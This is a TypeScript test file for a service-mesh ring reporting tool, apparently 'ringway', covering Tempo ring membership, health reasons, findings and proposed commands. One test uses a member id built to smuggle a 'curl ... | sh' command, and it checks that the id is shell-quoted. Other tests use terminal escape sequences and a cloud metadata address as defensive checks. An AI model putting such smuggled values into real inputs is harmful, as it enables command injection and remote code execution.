import t from 'tap';
import { reportClients } from '../../src/control/report/clients.ts';
import { findingsOf, type LookAgain, type SilentPorts } from '../../src/control/report/findings.ts';
import { reportRing, reportRings, ringFacts } from '../../src/control/report/rings.ts';
import { ringText } from '../../src/control/report/table.ts';
import { advanceStage } from '../../src/control/stage/advance.ts';
import { LINGER, type Stage } from '../../src/control/stage/types.ts';
import type { Catalog, MergedMember, Ring } from '../../src/membership/types.ts';
import { TYPE_URLS } from '../../src/xds/types.ts';
import { catalogOf, fourMembers, memberOf, CATALOG_MS as NOW, ringOf } from '../support/catalog.ts';

const RING = 'live-store';

function stageOf(catalog: Catalog, nowMs = NOW, before: Stage | null = null): Stage {
  return advanceStage(before, catalog, nowMs, LINGER);
}

const lookAgain: LookAgain = (allow) => ['look', ...allow].join(' ');

/** As `findings`, but what is proposed: `code: command`. */
function commands(ring: Ring, silent: SilentPorts | null = null): string[] {
  const catalog = catalogOf(7, ring);
  const facts = ringFacts(ring.name, { catalog, stage: stageOf(catalog), nowMs: NOW });
  return facts ? findingsOf(facts, silent, lookAgain).map(({ code, command }) => `${code}: ${command}`) : ['no such ring'];
}

function findings(ring: Ring, silent: SilentPorts | null = null): string[] {
  const catalog = catalogOf(7, ring);
  const facts = ringFacts(ring.name, { catalog, stage: stageOf(catalog), nowMs: NOW });
  return facts ? findingsOf(facts, silent, lookAgain).map(({ level, code, text }) => `${level} ${code}: ${text}`) : ['no such ring'];
}

t.test('GET /api/rings: each ring with its sources, as the contract says', async (t) => {
  const sources = [
    { name: 'tempo', ok: true, asOfMs: NOW - 250, error: null, expired: false },
    { name: 'static', ok: false, asOfMs: null, error: 'members.yaml: no such file', expired: false },
  ];
  const catalog = catalogOf(7, ringOf(RING, fourMembers(), { sources }), ringOf('empty', [], { sources: [] }));
  t.same(reportRings({ catalog, stage: stageOf(catalog), nowMs: NOW }), {
    rings: [
      {
        ring: 'live-store',
        version: 7,
        members: 4,
        sources: [
          { name: 'tempo', ok: true, ageMs: 250 },
          { name: 'static', ok: false, ageMs: null, error: 'members.yaml: no such file' },
        ],
        warnings: [],
      },
      { ring: 'empty', version: 7, members: 0, sources: [], warnings: [] },
    ],
  });
});

t.test('GET /api/rings/{ring}: what the ring says, what EDS says, and why', async (t) => {
  const [healthy, stale, refused, joining] = fourMembers() as [MergedMember, MergedMember, MergedMember, MergedMember];
  const members = [
    healthy,
    { ...stale, heartbeatMs: NOW - 75_000, unhealthy: 'no heartbeat for over 60s' },
    { ...refused, refused: 'address "10.0.1.10:9096" is not in allowedAddresses' },
    { ...joining, state: 'JOINING' as const, unhealthy: 'state JOINING', heartbeatMs: null, zone: '' },
  ];
  const catalog = catalogOf(3, ringOf(RING, members));
  const report = reportRing(RING, { catalog, stage: stageOf(catalog), nowMs: NOW });
  t.same(report?.members[0], {
    id: 'live-store-zone-a-0',
    address: '10.0.0.10:9096',
    zone: 'zone-a',
    partition: 0,
    state: 'ACTIVE',
    heartbeatAgeMs: 0,
    sources: { tempo: 'ACTIVE' },
    heartbeatAgesMs: { tempo: 0 },
    disagreements: [],
    eds: 'HEALTHY',
    reason: 'queriers ask it: ACTIVE, heartbeat fresh',
    since: '2026-11-21T10:36:10.000Z',
    decidedBy: 'tempo',
  });
  t.same(
    report?.members.map(({ id, eds, reason, heartbeatAgeMs }) => [id, eds, reason, heartbeatAgeMs]),
    [
      ['live-store-zone-a-0', 'HEALTHY', 'queriers ask it: ACTIVE, heartbeat fresh', 0],
      ['live-store-zone-a-1', 'UNHEALTHY', 'no heartbeat for over 60s', 75_000],
      ['live-store-zone-b-0', 'NONE', 'refused: address "10.0.1.10:9096" is not in allowedAddresses', 0],
      ['live-store-zone-b-1', 'UNHEALTHY', 'state JOINING', null],
    ],
  );
  t.equal(reportRing('other', { catalog, stage: stageOf(catalog), nowMs: NOW }), undefined);
});

t.test('GET /api/rings/{ring}: what each source heard, where it is at odds, and its sources', async (t) => {
  const [a0, a1, b0, b1] = fourMembers() as [MergedMember, MergedMember, MergedMember, MergedMember];
  const opinions = [
    { source: 'tempo', member: { ...a0, state: 'ACTIVE' as const }, heardMs: NOW - 1_000 },
    { source: 'nats', member: { ...a0, state: 'JOINING' as const }, heardMs: NOW - 4_000 },
    { source: 'static', member: { ...a0, heartbeatMs: null }, heardMs: null },
  ];
  const members = [
    { ...a0, opinions, state: 'JOINING' as const, unhealthy: null, spared: 'state JOINING, but partition 0 has no owner that is ready' },
    { ...a1, disagreements: [{ reason: 'missing' as const, source: 'nats', says: null, ring: null }] },
    { ...b0, warning: 'address "10.0.1.10:9096" is one of the machine that reads the ring' },
    {
      ...b1,
      disagreements: [{ reason: 'zone' as const, source: 'nats', says: 'zone-x', ring: 'zone-b' }],
      refused: 'address "x" is not host:port',
    },
  ];
  const sources = ['tempo', 'nats', 'static'].map((name) => ({ name, ok: true, asOfMs: NOW - 10, error: null, expired: false }));
  const catalog = catalogOf(3, ringOf(RING, members, { sources }));
  const facts = { catalog, stage: stageOf(catalog), nowMs: NOW };
  const report = reportRing(RING, facts);
  t.same(report?.sources, [
    { name: 'tempo', ok: true, ageMs: 10 },
    { name: 'nats', ok: true, ageMs: 10 },
    { name: 'static', ok: true, ageMs: 10 },
  ]);
  t.match(report?.members[0], {
    sources: { tempo: 'ACTIVE', nats: 'JOINING', static: 'ACTIVE' },
    heartbeatAgesMs: { tempo: 1_000, nats: 4_000, static: null },
    disagreements: [],
    eds: 'HEALTHY',
    reason: 'queriers ask it: state JOINING, but partition 0 has no owner that is ready',
  });
  t.same(report?.members[1]?.disagreements, [{ reason: 'missing', source: 'nats' }]);
  t.equal(report?.members[2]?.warning, 'address "10.0.1.10:9096" is one of the machine that reads the ring');
  t.same(report?.members[3]?.disagreements, [{ reason: 'zone', source: 'nats', says: 'zone-x', ring: 'zone-b' }]);
  t.notOk('warning' in (report?.members[0] ?? {}));
  t.same(reportRings(facts).rings[0]?.warnings, [
    'live-store-zone-a-0: state JOINING, but partition 0 has no owner that is ready',
    'live-store-zone-b-0: address "10.0.1.10:9096" is one of the machine that reads the ring',
    'live-store-zone-b-1: address "x" is not host:port',
  ]);
  const found = ringFacts(RING, facts);
  const told = found ? findingsOf(found, null, lookAgain).map(({ level, code, text }) => `${level} ${code}: ${text}`) : [];
  t.ok(
    told.includes(
      'warning last-owner-not-ready: live-store-zone-a-0: state JOINING, but partition 0 has no owner that is ready: it is asked',
    ),
  );
  t.ok(told.includes('note own-address: live-store-zone-b-0: address "10.0.1.10:9096" is one of the machine that reads the ring'));
  const table = found ? ringText(found, [], '').split('\n') : [];
  t.match(
    table.find((line) => line.startsWith('member ')),
    /heartbeat +eds +reason +disagreement$/,
  );
  t.match(
    table.find((line) => /^live-store-zone-a-0 +10/.test(line)),
    /tempo 1 s, nats 4 s +HEALTHY .* -$/,
  );
  t.match(
    table.find((line) => /^live-store-zone-a-1 +10/.test(line)),
    /nats does not list it$/,
  );
});

t.test('GET /api/rings: what is wrong is named, a summary stays one', async (t) => {
  const members = Array.from({ length: 30 }, (_, i) =>
    memberOf(`m-${String(i).padStart(2, '0')}`, { refused: 'address "[::]:1" is the unspecified address' }),
  );
  const [summary] = reportRings({
    catalog: catalogOf(1, ringOf(RING, members, { emptyGuard: true })),
    stage: { rings: new Map(), nextMs: null },
    nowMs: NOW,
  }).rings;
  t.equal(summary?.warnings.length, 20);
  t.equal(summary?.warnings[0], 'the sources say that the ring is empty; that is not believed');
  t.equal(summary?.warnings[1], 'm-00: address "[::]:1" is the unspecified address');
  t.equal(summary?.warnings.at(-1), 'and 12 more');
  const two = catalogOf(1, ringOf('a', [memberOf('one')]), ringOf('b', [memberOf('two')]));
  t.same(
    reportRings({ catalog: two, stage: stageOf(two), nowMs: NOW }).rings.map(({ warnings }) => warnings),
    [[], ['two: address 10.0.0.1:9096 is claimed by member one of ring a']],
  );
});

t.test('who left is reported until its cluster is gone', async (t) => {
  const all = catalogOf(1, ringOf(RING, fourMembers()));
  const fewer = catalogOf(2, ringOf(RING, fourMembers().slice(1)));
  const left = stageOf(fewer, NOW, stageOf(all));
  const unrouted = stageOf(fewer, NOW + 60_000, left);
  const gone = stageOf(fewer, NOW + 90_000, unrouted);
  const first = (stage: Stage, nowMs: number): unknown => reportRing(RING, { catalog: fewer, stage, nowMs })?.members[0];
  t.match(first(left, NOW + 20_000), {
    id: 'live-store-zone-a-0',
    state: 'LEFT',
    eds: 'DRAINING',
    reason: 'left the ring; calls to its address are taken for 40 s more',
    sources: {},
    since: null,
  });
  t.match(first(unrouted, NOW + 61_500), { eds: 'DRAINING', reason: 'left the ring; its route is gone, its cluster goes in 28 s' });
  t.match(first(gone, NOW + 90_000), { id: 'live-store-zone-a-1' });
});

t.test('a member whose address another ring has says so', async (t) => {
  const catalog = catalogOf(1, ringOf('a', [memberOf('one')]), ringOf('b', [memberOf('two')]));
  const report = reportRing('b', { catalog, stage: stageOf(catalog), nowMs: NOW });
  t.match(report?.members, [{ id: 'two', eds: 'NONE', reason: 'refused: address 10.0.0.1:9096 is claimed by member one of ring a' }]);
});

t.test('GET /api/clients: sorted, a refusal only where there was one', async (t) => {
  const type = { type: TYPE_URLS.cluster, variant: 'delta' as const, sent: 'v2', acked: 'v1', nacked: null };
  const client = {
    node: 'b',
    cluster: 'live-store/egress',
    view: 'live-store/egress',
    peer: '127.0.0.1:4',
    userAgent: 'envoy',
    connectedMs: 5,
    types: [type],
  };
  const nacked = { version: 'v2', message: 'no', atMs: 9 };
  const clients = [
    client,
    { ...client, node: 'a', connectedMs: 7 },
    { ...client, node: 'a', connectedMs: 6, types: [{ ...type, nacked }] },
  ];
  t.same(reportClients(clients), {
    clients: [
      {
        node: 'a',
        cluster: 'live-store/egress',
        connectedMs: 6,
        types: [{ type: TYPE_URLS.cluster, variant: 'delta', sent: 'v2', acked: 'v1', nacked }],
      },
      {
        node: 'a',
        cluster: 'live-store/egress',
        connectedMs: 7,
        types: [{ type: TYPE_URLS.cluster, variant: 'delta', sent: 'v2', acked: 'v1' }],
      },
      {
        node: 'b',
        cluster: 'live-store/egress',
        connectedMs: 5,
        types: [{ type: TYPE_URLS.cluster, variant: 'delta', sent: 'v2', acked: 'v1' }],
      },
    ],
  });
});

t.test('findings: a ring of two zones with sidecars has none', async (t) => {
  t.same(findings(ringOf(RING, fourMembers()), new Map()), []);
});

t.test('findings: partitions', async (t) => {
  const [a0, a1, b0] = fourMembers() as [MergedMember, MergedMember, MergedMember, MergedMember];
  t.same(findings(ringOf(RING, [a0, b0, a1])), [
    'warning single-owner: partition 1 has one owner, live-store-zone-a-1: while it is away every query fails, and no sidecar can help',
  ]);
  t.same(findings(ringOf(RING, [a0, { ...b0, zone: 'zone-a' }])), [
    'warning owners-in-one-zone: partition 0: its owners live-store-zone-a-0, live-store-zone-b-0 (zones: zone-a) cannot stand in for one another: queriers ask all of a zone and merge',
  ]);
  t.same(findings(ringOf(RING, [{ ...a0, unhealthy: 'state JOINING' }])), [
    'problem partition-without-owner: partition 0 has no owner that queriers ask: every query fails',
    'warning member-unhealthy: live-store-zone-a-0: state JOINING',
  ]);
  const orphan = { id: 5, state: 'ACTIVE' as const, owners: [] };
  t.same(findings(ringOf(RING, [], { partitions: [orphan, { ...orphan, id: 6, state: 'DELETED' }] })), [
    'problem partition-without-owner: partition 5 has no owner that queriers ask: every query fails',
  ]);
});

t.test('findings: sources, addresses, ports', async (t) => {
  const [a0, a1, b0, b1] = fourMembers() as [MergedMember, MergedMember, MergedMember, MergedMember];
  const failing = [{ name: 'tempo', ok: false, asOfMs: NOW - 5_000, error: 'connect ECONNREFUSED 10.0.0.1:3200', expired: false }];
  t.same(findings(ringOf(RING, fourMembers(), { sources: failing, emptyGuard: true })), [
    'problem source-failed: source tempo fails: connect ECONNREFUSED 10.0.0.1:3200',
    'problem empty-guard: the ring was suddenly empty; the last members that were seen are kept',
  ]);
  t.same(findings(ringOf(RING, [a0, a1, b0, { ...b1, refused: 'address "x" is not host:port' }])), [
    'problem address-refused: live-store-zone-b-1: refused: address "x" is not host:port',
  ]);
  const advice = (refused: string): string | undefined => {
    const catalog = catalogOf(7, ringOf(RING, [a0, a1, b0, { ...b1, refused }]));
    const facts = ringFacts(RING, { catalog, stage: stageOf(catalog), nowMs: NOW });
    return facts && findingsOf(facts, null, lookAgain)[0]?.advice;
  };
  const correct = 'correct live_store.ring.instance_addr and instance_port';
  const allow = ', or allow it: allowedAddresses in ringway.yaml, --allow on the command line';
  t.equal(advice('address "[::]:1" is the unspecified address'), correct, 'no list lets it in');
  t.equal(advice('address "10.0.0.1:1" is not in allowedAddresses'), correct + allow);
  t.match(advice('address "10.0.0.1:1" is also claimed by x, which keeps it'), /^give each member an address of its own/);
  t.equal(advice('id "\\n" is not 1 to 253 visible ASCII characters'), 'correct live_store.ring.instance_id or instance_zone');
  t.same(findings(ringOf(RING, fourMembers()), new Map([[a0.id, 'connection refused']])), [
    'problem port-silent: live-store-zone-a-0: nothing answers from here at 10.0.0.10:9096 (connection refused)',
  ]);
  t.same(findings(ringOf(RING, [{ ...a0, address: '10.0.0.10:9095' }, b0])), [
    "note no-instance-port: 1 of 2 members advertise 9095, Tempo's own gRPC port: queriers call the live-store itself, not a sidecar beside it",
  ]);
  const disagreements = [
    { reason: 'state', source: 'static', says: 'LEAVING', ring: 'ACTIVE' },
    { reason: 'missing', source: 'dns', says: null, ring: null },
  ] as const;
  t.same(findings(ringOf(RING, [{ ...a0, disagreements }, b0])), [
    'note sources-disagree: live-store-zone-a-0: static says state LEAVING, the ring ACTIVE; dns does not list it (tempo decides)',
  ]);
});

t.test('an empty ring is a problem unless it may be empty', async (t) => {
  t.same(findings(ringOf(RING, [], { emptyGuard: true })), ['problem ring-empty: the ring is empty: nobody has registered']);
  t.same(findings(ringOf(RING, [])), []);
});

t.test('a source that works in part is a warning, one that fails a problem; advice is for its kind', async (t) => {
  const source = { name: 'tempo', ok: true, asOfMs: NOW, error: 'http://a:3200: connect ECONNREFUSED', expired: false };
  const ring = (fields: object): Ring => ringOf(RING, fourMembers(), { sources: [{ ...source, ...fields }] });
  t.same(findings(ring({})), ['warning source-partly-failed: source tempo: http://a:3200: connect ECONNREFUSED']);
  t.same(commands(ring({ ok: false, asOfMs: null })), ['source-failed: ringway ring show --tempo http://<querier>:3200']);
  t.same(commands(ring({ ok: false, asOfMs: null, name: 'static' })), ['source-failed: ']);
});

t.test('what is proposed can be copied: words are quoted, refused addresses are allowed unless that is dangerous', async (t) => {
  const [a0, , b0] = fourMembers() as [MergedMember, MergedMember, MergedMember];
  const hostile = { ...a0, id: "x;curl$IFS'evil'|sh", zone: 'zone-c' };
  t.same(commands(ringOf('other', [hostile, b0]), new Map([[hostile.id, 'connection refused']])), [
    "port-silent: ringway sidecar inbound --listen :9096 --ring other --member 'x;curl$IFS'\\''evil'\\''|sh' --control <control>:18000",
  ]);
  const refused = (address: string, reason: string): MergedMember => ({ ...b0, address, refused: `address "${address}" ${reason}` });
  const special = (what: string): string => `is a ${what} address (allowed only when allowedAddresses lists it)`;
  t.same(commands(ringOf(RING, [a0, refused('127.0.0.3:9096', special('loopback'))])), ['address-refused: look 127.0.0.0/8']);
  t.same(commands(ringOf(RING, [a0, refused('10.9.9.9:9096', 'is not in allowedAddresses')])), ['address-refused: look 10.9.9.9']);
  t.same(commands(ringOf(RING, [a0, refused('169.254.169.254:80', special('metadata'))])), ['address-refused: ']);
});

t.test('what more than three members have in common is one finding', async (t) => {
  const silent = new Map(fourMembers().map(({ id }) => [id, 'connection refused']));
  t.same(findings(ringOf(RING, fourMembers()), silent), [
    'problem port-silent: 4 of 4 members, the first is live-store-zone-a-0: nothing answers from here at 10.0.0.10:9096 (connection refused)',
  ]);
});

t.test('texts of a ring cannot steer a terminal or add a line', async (t) => {
  const id = 'a\u001b[31m\nfindings: none\u202e';
  const catalog = catalogOf(1, ringOf(RING, [memberOf(id, { zone: '\u009b2J', refused: 'id' })]));
  const facts = ringFacts(RING, { catalog, stage: stageOf(catalog), nowMs: NOW });
  if (!facts) throw new Error('no facts');
  const text = ringText(facts, findingsOf(facts, null, lookAgain), '');
  t.notMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
  t.match(text, 'a\\u{1b}[31m\\u{a}findings: none\\u{202e}');
});

t.test('the text of a ring', async (t) => {
  const [a0, a1, b0] = fourMembers() as [MergedMember, MergedMember, MergedMember, MergedMember];
  const catalog = catalogOf(7, ringOf(RING, [a0, a1, { ...b0, heartbeatMs: null }]));
  const facts = ringFacts(RING, { catalog, stage: stageOf(catalog), nowMs: NOW + 3_000 });
  if (!facts) throw new Error('no facts');
  t.equal(
    ringText(facts, findingsOf(facts, null, lookAgain), 'ringway control --tempo http://querier:3200'),
    `ring live-store: 3 members, 2 partitions, 2 zones
sources: tempo read 3 s ago

partition  state   zone-a                       zone-b
0          ACTIVE  live-store-zone-a-0 HEALTHY  live-store-zone-b-0 HEALTHY
1          ACTIVE  live-store-zone-a-1 HEALTHY  -

member               address         zone    partition  state   heartbeat  eds      reason
live-store-zone-a-0  10.0.0.10:9096  zone-a  0          ACTIVE  3 s        HEALTHY  queriers ask it: ACTIVE, heartbeat fresh
live-store-zone-a-1  10.0.0.11:9096  zone-a  1          ACTIVE  3 s        HEALTHY  queriers ask it: ACTIVE, heartbeat fresh
live-store-zone-b-0  10.0.1.10:9096  zone-b  0          ACTIVE  -          HEALTHY  queriers ask it: ACTIVE

findings:
  warning  partition 1 has one owner, live-store-zone-a-1: while it is away every query fails, and no sidecar can help
           → run live-stores in a second zone: live_store.ring.instance_zone (-live-store.instance-availability-zone)

next: ringway control --tempo http://querier:3200
`,
  );
});
